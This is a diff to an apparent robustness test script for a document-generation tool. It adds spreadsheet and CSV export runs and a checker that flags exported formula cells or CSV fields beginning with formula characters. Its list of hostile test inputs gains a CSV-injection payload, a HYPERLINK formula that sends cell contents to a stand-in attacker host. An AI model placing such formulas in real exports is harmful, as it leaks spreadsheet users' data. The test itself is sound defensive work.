@@ -10,11 +10,13 @@ the PDF's attachments and link annotations read back.
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
 import io
 import random
 import re
 import shutil
+import zipfile
 from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
@@ -42,6 +44,7 @@ PAYLOADS = [
     "zero\u200bwidth\u200djoiner\ufeff",
     "ligne\rretour\u2028séparateur",
     "&lt;script&gt; &amp; &#60;script&#62;",
+    '=HYPERLINK("http://attacker.example/?"&A1,"clic")',
 ]
 """Hostile texts: markup, URLs, CSS, Jinja, very long words, invisible and line-breaking characters."""
 
@@ -146,7 +149,19 @@ def output_faults(folder: Path) -> list[str]:
             faults += [f"{path.name}: {f}" for f in docx_faults(path.read_bytes())]
         elif path.suffix == ".txt" and re.search("[\x00-\x08\x0b-\x1f\x7f]", path.read_text(encoding="utf-8")):
             faults.append(f"{path.name}: control character")
+        elif path.suffix in (".xlsx", ".ods", ".csv"):
+            faults += [f"{path.name}: {f}" for f in spreadsheet_faults(path)]
     return faults
+
+
+def spreadsheet_faults(path: Path) -> list[str]:
+    """An export that a spreadsheet would evaluate: a formula cell, or a CSV field starting like one."""
+    if path.suffix == ".csv":
+        fields = [f for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for f in row]
+        return [f"formula field {f[:40]!r}" for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    with zipfile.ZipFile(path) as archive:
+        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/") or n == "content.xml"]
+        return [f"formula in {n}" for n in parts if re.search(rb"<f[ >]|table:formula=", archive.read(n))]
 
 
 def files_of(root: Path) -> list[Path]:
@@ -213,6 +228,8 @@ def run_everything(root: Path, out: Path, pdf: bool) -> list[str]:
           for fmt in ("md", "html", "txt", "docx", *(["pdf"] if pdf else []))),
         ["notice", root, "--policy", "--draft", "--format", "html", "--out", out / "policy"],
         ["notice", root, "--policy", "--draft", "--format", "html", "--page", "--out", out / "policy-page"],
+        *(["export", root, "--format", fmt, "--out", out / "export" / f"register.{fmt}"]
+          for fmt in ("xlsx", "ods", "csv", "json", "jsonld")),
     ]
     for args in commands:
         result = runner.invoke(cli, [str(a) for a in args])
